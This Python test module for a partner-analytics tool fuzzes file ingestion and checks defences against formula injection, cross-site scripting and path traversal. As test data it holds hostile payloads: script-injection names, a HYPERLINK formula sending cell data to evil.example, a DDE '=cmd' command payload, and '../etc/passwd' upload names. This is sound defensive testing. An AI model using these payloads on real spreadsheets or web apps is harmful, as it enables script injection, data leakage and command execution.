"""Hostile input (issue 10, item 4; docs/security.md).

* Malformed CSV, XLSX and Parquet through the real ``partnerscope ingest``: never a traceback;
  either one clear error naming the file (and the warehouse as it was), or every row loaded or
  quarantined.
* Formula injection: text starting with = + - @ (or a tab or carriage return) reaches every
  CSV and XLSX export neutralised as cells.py defines; numbers stay numbers.
* HTML and script in partner names: escaped on every page and HTML report; the chart specs
  embedded in ``<script type="application/json">`` cannot be closed by a name.
* Path traversal: an uploaded file's name never becomes a path; a file argument writes where it
  says and nowhere else.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from partnerscope.cells import csv_cell
from partnerscope.cli import app
from partnerscope.errors import DataFileError
from tests.conftest import make_workspace, query, snapshot

FUZZ = settings(
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

CONFIG = """
[sources.partners]
entity = "partners"
path = "data/partners.{ext}"
[sources.partners.columns]
partner_id = "id"
name = "name"
joined_at = "joined"
"""
GOOD_CSV = b"id,name,joined\nP1,Acme,2024-01-31\nP2,Beta,2024-02-29\n"


def workspace(root: Path, ext: str = "csv") -> Any:
    """A workspace whose partners were ingested once (the state a failed import keeps)."""
    ws = make_workspace(root, CONFIG.replace("{ext}", ext), {"data/partners.csv": GOOD_CSV})
    if ext == "csv":
        ws.ingest()
    return ws


_SHARED: dict[str, Any] = {}


def shared_workspace(factory: pytest.TempPathFactory, ext: str = "csv") -> Any:
    """One workspace for all examples of a fuzz test: each example takes its own snapshot."""
    if ext not in _SHARED:
        _SHARED[ext] = workspace(factory.mktemp(f"fuzz-{ext}") / "ws", ext)
    return _SHARED[ext]


def ingest_hostile(ws: Any, name: str, content: bytes, *, cli: bool = True) -> None:
    """Ingest ``content`` as the partners file and check the invariant: through the CLI (one
    ``Error:`` line naming the file, exit 1, no traceback) or, for the many examples of a fuzz
    test, through ``Workspace.ingest`` the CLI calls (a DataFileError naming the file)."""
    (ws.root / "data" / name).write_bytes(content)
    before = snapshot(ws)
    if cli:
        result = CliRunner().invoke(app, ["-w", str(ws.root), "ingest"])
        assert result.exit_code in (0, 1), (result.exit_code, result.exception, result.output)
        assert "Traceback" not in result.output
        failed = result.exit_code == 1
        if failed:
            errors = [line for line in result.stderr.splitlines() if line.strip()]
            assert len(errors) == 1 and errors[0].startswith("Error: "), errors
            assert f"data/{name}" in errors[0], errors
    else:
        try:
            ws.ingest()
            failed = False
        except DataFileError as exc:
            assert f"data/{name}" in str(exc), exc
            failed = True
    if failed:
        assert snapshot(ws) == before
        return
    latest = query(
        ws,
        "SELECT import_id, rows_in, loaded, quarantined FROM _imports "
        "WHERE batch_id = (SELECT max(batch_id) FROM _imports)",
    )
    assert latest
    for import_id, rows_in, loaded, quarantined in latest:
        assert rows_in == loaded + quarantined
        held = query(ws, "SELECT count(*) FROM _quarantine WHERE import_id = ?", [import_id])
        assert held == [(quarantined,)]


# -- CSV --------------------------------------------------------------------------------------

BOMS = [b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE]
#: pieces of a broken export: quotes, delimiters, line ends, NUL, invalid UTF-8, formulas
PIECES = [
    b'"',
    b'""',
    b",",
    b";",
    b"\t",
    b"\n",
    b"\r",
    b"\r\n",
    b"\x00",
    b"\xff",
    b"\xc3",
    b"\xe2\x82",
    b"\xef\xbb\xbf",
    b"P1",
    b"Acme",
    b"2024-01-31",
    b"31/12/2024",
    b"=1+1",
    b"@SUM(A1)",
    b"NULL",
    b" ",
    "Müller".encode(),
]


@st.composite
def broken_csv(draw: st.DrawFn) -> bytes:
    header = draw(st.sampled_from([b"id,name,joined", b"id;name;joined", b'"id","name","joined"']))
    rows = []
    for _ in range(draw(st.integers(0, 8))):
        fields = draw(
            st.lists(
                st.lists(st.sampled_from(PIECES), max_size=4).map(b"".join), min_size=0, max_size=6
            )
        )
        rows.append(b",".join(fields))
    end = draw(st.sampled_from([b"\n", b"\r\n", b"\r", b""]))
    return draw(st.sampled_from(BOMS)) + header + b"\n" + b"\n".join(rows) + end


@pytest.mark.slow
@settings(FUZZ, max_examples=25)
@given(content=broken_csv())
def test_broken_csv_is_loaded_quarantined_or_refused(tmp_path_factory, content):
    ws = shared_workspace(tmp_path_factory)
    ingest_hostile(ws, "partners.csv", content, cli=False)


@pytest.mark.slow
@settings(FUZZ, max_examples=25)
@given(content=st.binary(max_size=3000))
def test_random_bytes_are_loaded_quarantined_or_refused(tmp_path_factory, content):
    ws = shared_workspace(tmp_path_factory)
    ingest_hostile(ws, "partners.csv", content, cli=False)


LATEST_QUARANTINE = (
    'SELECT "row", rule FROM _quarantine '
    "WHERE import_id = (SELECT max(import_id) FROM _imports) ORDER BY 1"
)


def test_a_blank_line_above_the_header(tmp_path):
    """Found by the fuzz test: a blank first line made the reader raise StopIteration."""
    ws = workspace(tmp_path / "ws")
    for content in (b"\n" + GOOD_CSV, b" \r\n,\n", b"\x85id,name\n"):
        ingest_hostile(ws, "partners.csv", content)


@pytest.mark.parametrize("megabytes", [1, 5])
def test_enormous_fields(tmp_path, megabytes):
    ws = workspace(tmp_path / "ws")
    big = b"x" * (megabytes << 20)
    content = b'id,name,joined\nP1,"' + big + b'",2024-01-31\nP2,Beta,' + big + b"\n"
    ingest_hostile(ws, "partners.csv", content)
    # the long name loads; the long date is quarantined, so P2 keeps its earlier name
    assert query(ws, "SELECT partner_id, length(name) FROM partners ORDER BY 1") == [
        ("P1", megabytes << 20),
        ("P2", 4),
    ]
    assert query(
        ws,
        LATEST_QUARANTINE,
    ) == [(3, "not_date")]


def test_ten_thousand_columns(tmp_path):
    """A file with 10,000 columns the source does not map: DuckDB was given one cleaning
    expression per column and crashed the process (regression: only mapped columns are
    cleaned, Plan.used_file_columns)."""
    ws = workspace(tmp_path / "ws")
    extra = [f"c{i}" for i in range(10_000)]
    lines = [
        ",".join(["id", "name", "joined", *extra]),
        ",".join(["P1", "Wide", "2024-01-31", *("v" for _ in extra)]),
        ",".join(["P2", "Bad date", "soon", *("" for _ in extra)]),
        "P3,Ragged",
    ]
    ingest_hostile(ws, "partners.csv", ("\n".join(lines) + "\n").encode())
    # P2's row is quarantined: it keeps the name of the earlier import
    assert query(ws, "SELECT partner_id, name FROM partners ORDER BY 1") == [
        ("P1", "Wide"),
        ("P2", "Beta"),
    ]
    rules = query(
        ws,
        LATEST_QUARANTINE,
    )
    assert rules == [(3, "not_date"), (4, "malformed_row")]


def test_an_expr_still_reads_columns_it_names(tmp_path):
    """Only the columns a mapping reads are cleaned, and an expr's columns are among them."""
    ws = make_workspace(
        tmp_path / "ws",
        """
        [sources.partners]
        entity = "partners"
        path = "data/partners.csv"
        [sources.partners.columns]
        partner_id = "id"
        name = { expr = "first_name || ' ' || \\"Last Name\\"" }
        """,
        {"data/partners.csv": "id,first_name,Last Name,x\nP1, Ada ,Lovelace,1\n"},
    )
    ws.ingest()
    assert query(ws, "SELECT name FROM partners") == [("Ada Lovelace",)]


# -- XLSX and Parquet -------------------------------------------------------------------------


def xlsx(tmp_path: Path, rows: list[list[object]]) -> bytes:
    path = tmp_path / "book.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, tuple):  # (formula, cached value)
                sheet.write_formula(r, c, value[0], None, value[1])
            else:
                sheet.write(r, c, value)
    book.close()
    return path.read_bytes()


def parquet(table: pa.Table) -> bytes:
    out = io.BytesIO()
    pq.write_table(table, out)
    return out.getvalue()


GOOD_ROWS: list[list[object]] = [["id", "name", "joined"], ["P1", "Acme", "2024-01-31"]]
GOOD_TABLE = pa.table({"id": ["P1", "P2"], "name": ["A", "B"], "joined": ["2024-01-31", "x"]})


@pytest.fixture(scope="module")
def good_files(tmp_path_factory) -> dict[str, bytes]:
    return {
        "xlsx": xlsx(tmp_path_factory.mktemp("xlsx"), GOOD_ROWS),
        "parquet": parquet(GOOD_TABLE),
    }


@pytest.mark.slow
@settings(FUZZ, max_examples=30)
@given(ext=st.sampled_from(["xlsx", "parquet"]), cut=st.floats(0.0, 0.999), flip=st.booleans())
def test_truncated_or_damaged_workbooks_and_parquet(tmp_path_factory, good_files, ext, cut, flip):
    content = bytearray(good_files[ext][: max(1, int(len(good_files[ext]) * cut))])
    if flip and len(content) > 8:
        content[len(content) // 2] ^= 0xFF
    ws = make_workspace(
        tmp_path_factory.mktemp(ext) / "ws",
        CONFIG.replace("{ext}", ext),
        {f"data/partners.{ext}": good_files[ext]},
    )
    ws.ingest()
    ingest_hostile(ws, f"partners.{ext}", bytes(content), cli=False)


def not_xlsx_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("hello.txt", "a zip, not a workbook")
    return out.getvalue()


def wrong_parquet() -> list[tuple[str, bytes]]:
    return [
        ("wrong schema", parquet(pa.table({"sku": ["A"], "price": [1.5]}))),
        (
            "numbers for text",
            parquet(pa.table({"id": [1, 2], "name": [1.5, None], "joined": [1, 2]})),
        ),
        (
            "nested and binary columns",
            parquet(
                pa.table(
                    {
                        "id": [["P1"], ["P2"]],
                        "name": [{"x": 1}, {"x": 2}],
                        "joined": pa.array([b"\xff\xfe", b"\x00"], pa.binary()),
                    }
                )
            ),
        ),
        (
            "invalid UTF-8 in a binary name",
            parquet(
                pa.table(
                    {
                        "id": ["P1", "P2"],
                        "name": pa.array([b"\xff\xfe", b"ok"], pa.binary()),
                        "joined": ["2024-01-31", "2024-01-31"],
                    }
                )
            ),
        ),
        (
            "all-null columns",
            parquet(pa.table({"id": pa.nulls(2), "name": ["A", "B"], "joined": pa.nulls(2)})),
        ),
        (
            "repeated column names",
            parquet(
                pa.Table.from_arrays(
                    [pa.array(["P1"]), pa.array(["A"]), pa.array(["B"]), pa.array(["2024-01-31"])],
                    names=["id", "name", "name", "joined"],
                )
            ),
        ),
    ]


def test_wrong_workbooks_and_parquet(tmp_path, good_files):
    cases = [
        ("xlsx", "a zip that is not a workbook", not_xlsx_zip()),
        (
            "xlsx",
            "formulas in cells",
            xlsx(
                tmp_path,
                [
                    ["id", "name", "joined"],
                    ["P1", ("=1+1", 2), ("=TODAY()", "2024-01-31")],
                    [('="P"&2', "P2"), ('=HYPERLINK("http://x","y")', "y"), "2024-01-31"],
                    ["P3", ("=1/0", "#DIV/0!"), "2024-01-31"],
                ],
            ),
        ),
        *(("parquet", case, content) for case, content in wrong_parquet()),
    ]
    for ext, case, content in cases:
        ws = make_workspace(
            tmp_path / case.replace(" ", "-"),
            CONFIG.replace("{ext}", ext),
            {f"data/partners.{ext}": good_files[ext]},
        )
        ws.ingest()
        ingest_hostile(ws, f"partners.{ext}", content)
        if case == "formulas in cells":
            # a formula is read as the value it shows, never as the formula's text
            names = dict(query(ws, "SELECT partner_id, name FROM partners"))
            assert (names["P1"], names["P2"]) == ("2", "y"), names
            assert not any(str(n).startswith("=") for n in names.values()), names


# -- formula injection ------------------------------------------------------------------------

#: text a spreadsheet would run; each must come out of an export as csv_cell makes it
FORMULAS = ["=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: a number that was made text by the neutralising quote
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
NUMBER_AS_TEXT = re.compile(r"'[-+]?\d[\d,]*(\.\d+)?(e[-+]?\d+)?")


def assert_neutral_csv(text: str, wanted: list[str] = ()) -> list[list[str]]:
    """Every cell of ``text`` is safe to open in a spreadsheet, and each of ``wanted`` appears
    as csv_cell writes it (the export really carried the hostile text)."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        # a negative number is a number, not a formula
        assert not cell.startswith(DANGEROUS) or NUMBER.fullmatch(cell), repr(cell)
        assert not NUMBER_AS_TEXT.fullmatch(cell), f"a number written as text: {cell!r}"
    for value in wanted:
        assert any(csv_cell(value) in cell for cell in cells), (value, rows[:5])
    return rows


def xlsx_cells(content: bytes) -> tuple[list[str], int]:
    """(the texts, the number of numeric cells) of a workbook; asserts it has no formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = {n: book.read(n).decode() for n in sheets}
        strings = (
            book.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in (book.namelist())
            else ""
        )
    for name, sheet in xml.items():
        assert "<f>" not in sheet and "<f " not in sheet, f"a formula in {name}"
        assert "<hyperlink" not in sheet, f"a link in {name}"
    texts = re.findall(r"<t[^>]*>(.*?)</t>", strings, re.S)
    texts += [t for sheet in xml.values() for t in re.findall(r"<is><t[^>]*>(.*?)</t>", sheet)]
    numbers = sum(len(re.findall(r'<c r="[A-Z]+\d+"(?: s="\d+")?><v>', s)) for s in xml.values())
    return [_unxml(t) for t in texts], numbers


def _unxml(text: str) -> str:
    for entity, char in (("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&amp;", "&")):
        text = text.replace(entity, char)
    return re.sub(r"_x000([0-9A-D])_", lambda m: chr(int(m.group(1), 16)), text)


def test_quarantine_export_neutralises_cells(tmp_path):
    """The quarantine export was written by DuckDB's COPY, the rejected cells as typed."""
    ws = make_workspace(
        tmp_path / "ws",
        CONFIG.replace("{ext}", "csv"),
        {
            "data/partners.csv": "id,name,joined\n"
            + "".join(f'Q{i},"{f}","{f}"\n' for i, f in enumerate(FORMULAS))
            + "P9,-5,2024-13-01\n"
        },
    )
    ws.ingest()
    out = tmp_path / "exports" / "quarantine.csv"
    result = CliRunner().invoke(app, ["-w", str(ws.root), "quarantine", "--export", str(out)])
    assert result.exit_code == 0, result.output
    # values are trimmed on ingest: the tab and carriage return variants become '=1+1'
    rows = assert_neutral_csv(out.read_bytes().decode("utf-8"), FORMULAS[:4])
    assert rows[0] == ["source", "file", "row", "column", "value", "rule", "message", "record"]
    assert [r[2] for r in rows[1:]] == [str(n) for n in range(2, 9)]  # row numbers stay numbers
    assert [p.name for p in out.parent.iterdir()] == ["quarantine.csv"]


def test_a_carriage_return_in_a_cell_is_quoted():
    """csv.writer with '\\n' line ends wrote a cell holding '\\r' bare: a spreadsheet breaks the
    row there and runs the rest ('=1+1') as a formula at the start of a line."""
    from partnerscope.cells import CsvWriter, csv_text

    cells = ["ok", csv_cell("\r=1+1"), "a\rb", 12.5, -3]
    out = io.StringIO()
    CsvWriter(out).writerows([["h1", "h2", "h3", "h4", "h5"], cells])
    text = csv_text(["x", "y"], [{"x": "a\r=2+2", "y": 7}])
    # two records each: the carriage return stays inside its quoted cell
    for written in (out.getvalue(), text):
        assert len(list(csv.reader(io.StringIO(written, newline="")))) == 2, written
    assert out.getvalue().endswith('"ok","\'\r=1+1","a\rb",12.5,-3\n')
    assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1] == [
        "ok",
        "'\r=1+1",
        "a\rb",
        "12.5",
        "-3",
    ]
    assert text == 'x,y\n"a\r=2+2",7\n'


# -- the demo workspace with hostile partner names --------------------------------------------

#: partner id → its hostile name (P0001 is the partner user's own)
NAMES = {
    "P0001": "</script><script>alert(1)</script>",
    "P0002": '"><img src=x onerror=alert(1)>',
    "P0003": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "P0004": "+1+1",
    "P0005": "-2+3",
    "P0006": "@SUM(1+1)",
    "P0007": "\t=1+1",
    "P0008": "\r=1+1",
}
#: markup that must never reach a page unescaped
RAW = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "onerror=alert(1)>"]


@pytest.fixture(scope="module")
def hostile(web_world, tmp_path_factory):
    """A copy of the web world whose partners carry NAMES, scored again by a run."""
    import duckdb

    world = web_world.copy(tmp_path_factory.mktemp("hostile") / "demo")
    root = world.root
    con = duckdb.connect(str(root / "state" / "warehouse.duckdb"))
    for partner, name in NAMES.items():
        con.execute("UPDATE partners SET name = ? WHERE partner_id = ?", [name, partner])
    con.close()
    done = subprocess.run(
        [sys.executable, "-m", "partnerscope", "-w", str(root), "run"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return world


def cli(world, *args: str) -> str:
    result = CliRunner().invoke(app, ["-w", str(world.root), *args])
    assert result.exit_code == 0, (args, result.output, result.exception)
    return str(result.output)


@pytest.mark.slow
def test_every_export_neutralises_formulas(hostile, tmp_path):
    names = list(NAMES.values())
    ana = hostile.client("ana")
    # the partner list CSV of the web app
    listed = ana.get("/partners.csv")
    assert listed.status_code == 200
    assert_neutral_csv(listed.text, [n for n in names if n.startswith(DANGEROUS)])
    # the payout ledger, CSV and XLSX, from the web app (names of the latest run)
    fin = hostile.client("fin")
    for form in ("csv", "xlsx"):
        got = fin.get(f"/api/v1/payouts/{hostile.approved}/export", params={"format": form})
        assert got.status_code == 200, got.text
        if form == "csv":
            assert_neutral_csv(got.text)
        else:
            texts, numbers = xlsx_cells(got.content)
            assert numbers > 0
            assert {n for n in names if n.strip()} & set(texts)
    # the MDF reallocation proposal
    proposal = tmp_path / "mdf.csv"
    cli(hostile, "mdf", "reallocate", "--out", str(proposal))
    cells = {c for row in assert_neutral_csv(proposal.read_bytes().decode("utf-8")) for c in row}
    assert {csv_cell(n) for n in names[2:]} & cells  # the partners with a budget are there
    # the report workbook: every cell of a name is text, never a formula or a link
    cli(hostile, "report", "scorecard", "-f", "xlsx", "-o", str(tmp_path / "book"))
    (book,) = (tmp_path / "book").glob("*.xlsx")
    texts, numbers = xlsx_cells(book.read_bytes())
    assert numbers > 100
    for name in names:
        assert name in texts or name.replace("\r", "\n") in texts, name
    # the routing --out CSV: hostile lead ids and products
    leads = tmp_path / "leads.csv"
    leads.write_text(
        "lead_id,country,estimated_value,product\n"
        + "".join(f'"{f}",DE,50000,"{f}"\n' for f in FORMULAS[:4])
        + "H-5,US,-1,=cmd|' /C calc'!A0\n",
        encoding="utf-8",
    )
    routed = tmp_path / "routed.csv"
    cli(hostile, "leads", "route", str(leads), "--out", str(routed))
    rows = assert_neutral_csv(routed.read_bytes().decode("utf-8"), FORMULAS[:4])
    assert len(rows) == 5


# -- HTML and script in names -----------------------------------------------------------------

JSON_BLOCK = re.compile(r'<script type="application/json"[^>]*>(.*?)</script>', re.S)


def assert_escaped(html: str, where: str) -> int:
    """No raw markup of NAMES in ``html``, and each embedded chart spec parses whole."""
    for raw in RAW:
        assert raw not in html, (where, raw)
    assert "</script><script>" not in html, where
    blocks = JSON_BLOCK.findall(html)
    for block in blocks:
        json.loads(block)  # a name closing the block would cut it short
    return len(blocks)


@pytest.mark.slow
def test_names_are_escaped_on_every_page(hostile):
    ada, pat = hostile.client("ada"), hostile.client("pat")
    pages = [
        "/",
        "/partners",
        "/partners?q=script",
        "/partners/P0001",
        "/partners/P0002",
        "/tiers",
        "/alerts",
        "/payouts",
        f"/payouts/{hostile.approved}",
        "/mdf",
        "/leads",
        "/registrations",
        "/quality",
        "/audit",
    ]
    charts = 0
    for path in pages:
        answer = ada.get(path)
        assert answer.status_code == 200, path
        charts += assert_escaped(answer.text, path)
    assert charts > 0
    own = ada.get("/partners/P0001").text
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in own
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in ada.get("/partners/P0002").text
    for path in ("/portal", "/partners/P0001", "/payouts", "/mdf", "/leads", "/registrations"):
        answer = pat.get(path, follow_redirects=True)
        assert answer.status_code == 200, path
        assert_escaped(answer.text, f"pat {path}")
    # the JSON twins carry the names as data, as JSON escapes them
    twin = ada.get("/api/v1/partners/P0001")
    assert NAMES["P0001"] in json.dumps(twin.json(), ensure_ascii=False)


@pytest.mark.slow
def test_names_are_escaped_in_html_reports(hostile, tmp_path):
    for args in (["scorecard", "-P", "P0001"], ["qbr", "-P", "P0002"], ["executive"]):
        out = tmp_path / args[0]
        cli(hostile, "report", *args, "-f", "html", "-o", str(out))
        for page in out.glob("*.html"):
            assert_escaped(page.read_bytes().decode("utf-8"), page.name)


# -- path traversal ---------------------------------------------------------------------------


@pytest.mark.slow
def test_an_uploaded_file_name_never_becomes_a_path(hostile, tmp_path):
    from tests.webtools import csrf_of

    ana = hostile.client("ana")
    ana.headers["X-CSRF-Token"] = csrf_of(ana, "/leads")
    content = b"lead_id,country,estimated_value\nT-1,US,120000\n"
    names = ["../../etc/passwd.csv", "..\\..\\..\\evil.csv", "/tmp/evil.csv", "../" * 20 + "x.csv"]
    for name in names:
        answer = ana.post("/leads/route", files={"file": (name, content, "text/csv")})
        assert answer.status_code == 200, (name, answer.text)
        # (the page names the partners, and one of this world is called after evil.example)
        assert "passwd" not in answer.text and "evil.csv" not in answer.text
    for path in (Path("/etc/passwd.csv"), Path("/tmp/evil.csv"), Path("/x.csv")):
        assert not path.exists(), path
    refused = ana.post("/leads/route", files={"file": ("../../etc/passwd", content, "text/csv")})
    assert refused.status_code == 422


def test_report_file_names_keep_ids_inside_the_folder():
    from partnerscope.reports.write import file_name

    for partner in ("../../etc/x", "..", "a/b\\c", "/abs", "\x00"):
        report = SimpleNamespace(kind="scorecard", partner_id=partner, period="../FY2026-Q1")
        name = file_name(report, "html")
        assert "/" not in name and "\\" not in name and not name.startswith("."), name
        assert Path(name).name == name


def test_file_arguments_write_only_where_asked(tmp_path):
    """`quarantine --export` with `..` in the path writes that one file (resolved as the
    operating system does) and leaves no temporary file beside it."""
    ws = make_workspace(
        tmp_path / "ws",
        CONFIG.replace("{ext}", "csv"),
        {"data/partners.csv": "id,name,joined\n=1,-,x\n"},
    )
    ws.ingest()
    out = tmp_path / "a" / "b" / ".." / "q.csv"
    (tmp_path / "a" / "b").mkdir(parents=True)
    result = CliRunner().invoke(app, ["-w", str(ws.root), "quarantine", "--export", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["b", "q.csv"]
    assert not any((tmp_path / "a" / "b").iterdir())
